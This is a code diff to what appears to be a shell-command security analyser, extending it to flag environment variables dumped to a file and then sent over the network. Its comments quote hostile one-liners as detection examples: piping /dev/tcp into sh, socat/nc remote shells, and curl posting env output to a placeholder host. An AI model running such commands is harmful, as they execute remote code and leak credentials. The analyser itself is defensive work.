@@ -91,7 +91,10 @@ def _link_effects(commands: list[Command]) -> None:
     network is downloaded (``cat < /dev/tcp/h/80 | sh``), a shell or interpreter whose input or
     output is a socket, or that ``socat``/``nc`` attach to one, is a remote shell, and the
     environment printed into a program that sends is a credential leaving."""
-    printing = {c.program for c in commands if c.program in ENVIRONMENT_PRINTERS and not c.fact["operands"]}
+    printers = [c for c in commands if c.program in ENVIRONMENT_PRINTERS and not c.fact["operands"]]
+    printing = {c.program for c in printers}
+    dumps = {e["path"] for c in printers for e in c.fact["effects"] if e["kind"] == "write" and e["path"]}
+    """Files the environment was printed into (``env > f``): sending them sends it."""
     fetching = {c.program for c in commands if any(e["kind"] == "network" for e in c.fact["effects"]) and c.program}
     for cmd in commands:
         fact = cmd.fact
@@ -109,6 +112,11 @@ def _link_effects(commands: list[Command]) -> None:
         if (socket and is_interpreter(program)) or attached:
             found.append(effectmod.effect("exec", program, via, source="network", certainty="unknown"))
         sending = any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
-        if sending and set(cmd.stdin_from + fact.get("_inputs", [])) & printing:
+        if sending and (set(cmd.stdin_from + fact.get("_inputs", [])) & printing or dumps & _sent_files(fact)):
             # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`: the environment leaves
             found.append(effectmod.effect("credential", "env", via, certainty="unknown"))
+
+
+def _sent_files(fact: dict[str, Any]) -> set[str]:
+    """The files a sending command reads (``curl -d @f``, ``-T f``, ``--post-file=f``)."""
+    return set(fact["paths"]) | {e["path"] for e in fact["effects"] if e["kind"] == "read"}
